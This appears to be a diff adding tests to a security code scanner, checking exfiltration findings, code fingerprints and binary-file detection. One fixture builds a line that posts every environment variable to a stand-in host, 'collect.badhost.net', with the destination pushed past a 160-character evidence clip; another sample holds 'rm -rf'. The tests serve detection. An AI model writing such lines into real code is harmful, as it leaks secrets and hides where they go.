@@ -214,3 +214,53 @@ def test_a_whole_file_that_does_not_parse_still_degrades_the_scan():
                               head_text=broken)
     result = scan(ChangeSet(files=(change,), has_head=True), analyzers=[semgrep()])
     assert result.degraded and any("svc/run.py" in e for e in result.errors)
+
+
+def _exfil_line(host: str) -> str:
+    # The destination is named only after the 160th character, where evidence is clipped.
+    return ("    requests.post(os.environ.get('METRICS_URL_" + "X" * 120 + f"', 'https://{host}/v1'), "
+            "json=dict(os.environ))")
+
+
+def _base_and_head(base: str, head: str, path: str = "app/sync.py") -> ChangeSet:
+    change = parse_file_patch(path, None, status="modified", head_text=head, base_text=base)
+    return ChangeSet(files=(change,), has_base=True, has_head=True)
+
+
+def test_a_flagged_line_changed_after_its_160th_character_is_a_new_finding():
+    from reviewer.core.analyzers.endpoints import EndpointAnalyzer
+
+    top = "import os\nimport requests\n\n\ndef push():\n"
+    base = top + _exfil_line("metrics.acmecorp.io") + "\n"
+    assert _exfil_line("metrics.acmecorp.io").index("https://") > 160
+    moved = scan(_base_and_head(base, "# a comment\n" + top + "    " + _exfil_line("metrics.acmecorp.io") + "\n"),
+                 analyzers=[EndpointAnalyzer()])
+    assert [f.rule_id for f in moved.findings if f.rule_id == "endpoint-exfiltration"] == []  # same code
+    changed = scan(_base_and_head(base, top + _exfil_line("collect.badhost.net") + "\n"),
+                   analyzers=[EndpointAnalyzer()])
+    (f,) = [f for f in changed.findings if f.rule_id == "endpoint-exfiltration"]
+    assert f.start_line == 6 and "badhost" not in f.evidence  # the clip hides it; the fingerprint does not
+
+
+def test_fingerprints_hash_the_whole_code_and_unicode_spaces_count():
+    from reviewer.core.findings import normalise_code
+
+    long_a, long_b = "x = '" + "a" * 300 + "1'", "x = '" + "a" * 300 + "2'"
+    assert fingerprint("r", "p", long_a) != fingerprint("r", "p", long_b)
+    assert fingerprint("r", "p", "if  a:\n\tb()") == fingerprint("r", "p", "if a: b()")
+    assert normalise_code("cmd = 'rm\u00a0-rf'") != normalise_code("cmd = 'rm -rf'")
+
+
+def test_a_binary_file_is_fingerprinted_by_its_bytes():
+    from reviewer.core.analyzers.blobs import BlobAnalyzer
+    from reviewer.core.changeset import FileChange, FileStatus
+
+    def tool(digest: str) -> ChangeSet:
+        return ChangeSet(files=(FileChange(path="bin/tool", status=FileStatus.ADDED, binary=True,
+                                           content_sha256=digest),))
+
+    (one,) = scan(tool("1" * 64), analyzers=[BlobAnalyzer()]).findings
+    (same,) = scan(tool("1" * 64), analyzers=[BlobAnalyzer()]).findings
+    (other,) = scan(tool("2" * 64), analyzers=[BlobAnalyzer()]).findings
+    assert one.rule_id == "blob-binary-executable"
+    assert one.fingerprint == same.fingerprint != other.fingerprint
